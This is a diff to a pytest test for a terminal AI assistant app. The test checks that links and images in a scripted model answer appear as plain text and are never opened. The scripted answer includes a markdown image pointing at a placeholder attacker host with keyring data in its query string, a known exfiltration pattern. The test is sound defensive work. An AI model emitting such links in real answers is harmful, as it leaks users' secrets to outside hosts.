@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 from textual.widgets import Markdown
+from textual.widgets.markdown import MarkdownBlock
 
 from models.fake import ScriptedModel
 from tests.tui.conftest import AssistantMaker
@@ -169,8 +170,15 @@ async def test_everything_fits_at_80_by_24(make_assistant: AssistantMaker) -> No
         assert screen.contains_region(app.screen.query_one("#help-box").region)
 
 
-async def test_links_in_answers_are_copied_never_opened(make_assistant: AssistantMaker) -> None:
-    model = ScriptedModel(["Keys live in the keyring [1], see [docs](http://evil.example/x)."])
+async def test_links_in_answers_are_shown_as_text_never_opened(
+    make_assistant: AssistantMaker,
+) -> None:
+    model = ScriptedModel(
+        [
+            "Keys live in the keyring [1], see [docs](http://evil.example/x). "
+            "![status](https://evil.example/s.png?d=keyring) http://evil.example/bare"
+        ]
+    )
     app = MarginApp(make_assistant(model))
     opened: list[str] = []
     app.open_url = lambda url, **_: opened.append(url)  # type: ignore[method-assign]
@@ -179,7 +187,13 @@ async def test_links_in_answers_are_copied_never_opened(make_assistant: Assistan
         await ask(pilot)
         await settle(pilot)
         markdown = app.query_one(StreamingMarkdown)
-        assert "docs (http://evil.example/x)" in markdown.source
+        assert "docs (`http://evil.example/x`)" in markdown.source
+        assert "(image: status — `https://evil.example/s.png?d=keyring`)" in markdown.source
+        shown = [block._content for block in markdown.query(MarkdownBlock)]
+        text = " ".join(content.plain for content in shown)
+        assert "http://evil.example/x" in text and "https://evil.example/s.png?d=keyring" in text
+        styles = [str(span.style) for content in shown for span in content.spans]
+        assert not any("@click" in style or "link" in style for style in styles), styles
         markdown.post_message(Markdown.LinkClicked(markdown, "http://evil.example/x"))
         await pilot.pause()
         assert opened == [] and app.clipboard == "http://evil.example/x"
